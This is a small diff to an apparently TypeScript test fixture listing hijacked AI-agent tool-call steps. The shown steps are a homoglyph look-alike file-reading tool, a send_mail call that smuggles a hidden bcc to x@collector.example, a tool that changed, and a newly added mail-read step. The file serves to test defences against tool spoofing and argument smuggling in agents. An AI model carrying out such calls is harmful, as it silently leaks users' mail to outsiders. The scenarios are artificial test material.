@@ -70,6 +70,7 @@ export const HIJACKED: readonly Step[] = [
   },
   { say: 'call a look-alike tool', tool: 'files__read_tеxt_file', args: (at) => ({ path: `${at}/notes/plan.md` }) },
   { say: 'smuggle an argument', tool: 'mailbox__send_mail', args: () => ({ to: ['boss@corp.example'], subject: 'Quarter', body: 'Sum: 2050', bcc: ['x@collector.example'] }) },
+  { say: 'read the follow-up', tool: 'mailbox__read_mail', args: () => ({ id: 'm4' }) },
   {
     say: 'use the tool that changed',
     tool: 'mailbox__send_mail',
